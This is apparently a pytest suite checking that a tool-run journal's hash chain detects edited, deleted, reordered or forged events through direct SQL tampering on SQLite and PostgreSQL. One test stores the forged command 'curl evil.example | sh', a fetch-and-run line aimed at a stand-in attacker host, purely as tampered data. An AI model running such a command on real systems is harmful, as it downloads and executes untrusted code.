"""The journal's hash chain: an intact journal verifies; an edited, deleted or reordered event is found.

Each tampering is done the way someone with write access to the database would do it: plain SQL on
the stored rows, on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import json
import threading
from pathlib import Path

import pytest
from sqlalchemy import text

from corral.events import ToolReturned
from corral.store import Store
from corral.store.chain import GENESIS, event_hash
from tests.store.runs import add_run, finished_run_events

pytestmark = pytest.mark.usefixtures("database")  # every test on SQLite and on PostgreSQL


@pytest.fixture
def store(tmp_path: Path) -> Store:
    opened = Store.open(home=tmp_path / "home")
    add_run(opened, "r1")
    for event in finished_run_events():
        opened.journal.append("r1", event)
    opened.journal.flush()
    yield opened
    opened.close()


def sql(store: Store, statement: str, **params: object) -> None:
    with store.engine.begin() as conn:
        conn.execute(text(statement), params)


def shift_down(store: Store, above: int) -> None:
    """Renumber the events after ``above`` one down, as a deletion would be hidden (through free numbers:
    PostgreSQL checks the unique sequence row by row)."""
    sql(store, "UPDATE corral_events SET seq = seq + 1000 WHERE run_id = 'r1' AND seq > :n", n=above)
    sql(store, "UPDATE corral_events SET seq = seq - 1001 WHERE run_id = 'r1' AND seq > :n", n=above + 1000)


def kinds(store: Store) -> list[tuple[str, int | None]]:
    return [(p.kind, p.seq) for p in store.verify_journal("r1").problems]


def stored(store: Store, seq: int) -> dict[str, object]:
    with store.engine.connect() as conn:
        row = conn.execute(
            text(
                "SELECT key, type, ts, duration_ms, data, prev_hash, hash FROM corral_events"
                " WHERE run_id = 'r1' AND seq = :s"
            ),
            {"s": seq},
        ).one()
    data = row.data if isinstance(row.data, dict) else json.loads(row.data)
    return {**row._asdict(), "data": data}


def test_every_event_links_to_the_one_before_and_the_run_keeps_the_head(store: Store) -> None:
    result = store.verify_journal("r1")
    assert result.intact and result.events == 6, result.problems
    first, last = stored(store, 1), stored(store, 6)
    assert first["prev_hash"] == GENESIS
    assert stored(store, 2)["prev_hash"] == first["hash"]
    assert (result.head_seq, result.head_hash) == (6, last["hash"])
    assert last["hash"] == event_hash(
        str(last["prev_hash"]), "r1", "run.finished", "run.finished", last["ts"], last["duration_ms"], last["data"]
    )
    assert store.get_run("r1").journal_seq == 6  # the run's record gives the head's seq too


def test_an_edited_event_is_found(store: Store) -> None:
    data = stored(store, 4)["data"]
    assert isinstance(data, dict)
    data["args"] = {"command": "curl evil.example | sh"}  # the journal now says another command ran
    sql(store, "UPDATE corral_events SET data = :d WHERE run_id = 'r1' AND seq = 4", d=json.dumps(data))
    assert kinds(store) == [("changed", 4)]


def test_an_edit_that_also_rewrites_the_events_hash_breaks_the_next_link(store: Store) -> None:
    row = stored(store, 3)
    data = {**row["data"], "output_tokens": 1}  # type: ignore[dict-item]
    forged = event_hash(
        str(row["prev_hash"]),
        "r1",
        str(row["key"]),
        str(row["type"]),
        row["ts"],
        row["duration_ms"],
        data,  # type: ignore[arg-type]
    )
    sql(
        store, "UPDATE corral_events SET data = :d, hash = :h WHERE run_id='r1' AND seq=3", d=json.dumps(data), h=forged
    )
    assert kinds(store) == [("unlinked", 4)]


def test_an_edited_time_or_type_is_found(store: Store) -> None:
    sql(store, "UPDATE corral_events SET ts = ts - 3600 WHERE run_id = 'r1' AND seq = 2")
    sql(store, "UPDATE corral_events SET type = 'tool.call' WHERE run_id = 'r1' AND seq = 5")
    assert kinds(store) == [("changed", 2), ("changed", 5)]


def test_a_deleted_event_is_found(store: Store) -> None:
    sql(store, "DELETE FROM corral_events WHERE run_id = 'r1' AND seq = 4")
    assert kinds(store) == [("deleted", 4)]


def test_a_deletion_hidden_by_renumbering_is_found(store: Store) -> None:
    sql(store, "DELETE FROM corral_events WHERE run_id = 'r1' AND seq = 4")
    shift_down(store, 4)
    sql(store, "UPDATE corral_runs SET journal_seq = 5 WHERE id = 'r1'")
    assert kinds(store) == [("unlinked", 4)]


def test_deleting_the_first_or_the_last_events_is_found(store: Store) -> None:
    sql(store, "DELETE FROM corral_events WHERE run_id = 'r1' AND seq >= 5")  # the tail: no gap left behind
    assert kinds(store) == [("deleted", 5)]
    sql(store, "DELETE FROM corral_events WHERE run_id = 'r1' AND seq = 1")
    shift_down(store, 1)
    assert ("deleted", 1) in kinds(store)


def test_reordered_events_are_found(store: Store) -> None:
    # Swap events 3 and 4 (through a free number: the sequence is unique per run).
    sql(store, "UPDATE corral_events SET seq = 100 WHERE run_id = 'r1' AND seq = 3")
    sql(store, "UPDATE corral_events SET seq = 3 WHERE run_id = 'r1' AND seq = 4")
    sql(store, "UPDATE corral_events SET seq = 4 WHERE run_id = 'r1' AND seq = 100")
    assert kinds(store) == [("reordered", 3), ("reordered", 4), ("reordered", 5)]


def test_an_event_edited_into_garbage_is_reported_not_raised(store: Store) -> None:
    sql(store, "UPDATE corral_events SET key = 'x' WHERE run_id = 'r1' AND seq = 2")
    sql(store, "UPDATE corral_events SET hash = NULL, prev_hash = NULL WHERE run_id = 'r1' AND seq = 6")
    assert kinds(store) == [("unchained", 6), ("changed", 2), ("changed", 6)]


def test_events_added_past_the_head_are_found(store: Store) -> None:
    sql(store, "UPDATE corral_runs SET journal_seq = 4 WHERE id = 'r1'")
    assert ("added", 5) in kinds(store)


def test_two_writers_on_one_run_keep_one_chain(store: Store, tmp_path: Path) -> None:
    second = Store.open(home=tmp_path / "home")
    try:

        def write(journal_store: Store, name: str) -> None:
            for i in range(30):
                journal_store.journal.append(
                    "r1", ToolReturned(key=f"{name}{i}", call_id="c", tool="t", ok=True, text="x")
                )
                if i % 7 == 0:
                    journal_store.journal.flush()
            journal_store.journal.flush()

        threads = [threading.Thread(target=write, args=(s, n)) for s, n in ((store, "a"), (second, "b"))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        result = store.verify_journal("r1")
        assert result.intact, result.problems
        assert (result.events, result.head_seq) == (66, 66)
    finally:
        second.close()


def test_a_run_with_no_events_verifies_with_an_empty_head(store: Store) -> None:
    add_run(store, "empty")
    result = store.verify_journal("empty")
    assert (result.intact, result.events, result.head_seq, result.head_hash) == (True, 0, 0, GENESIS)
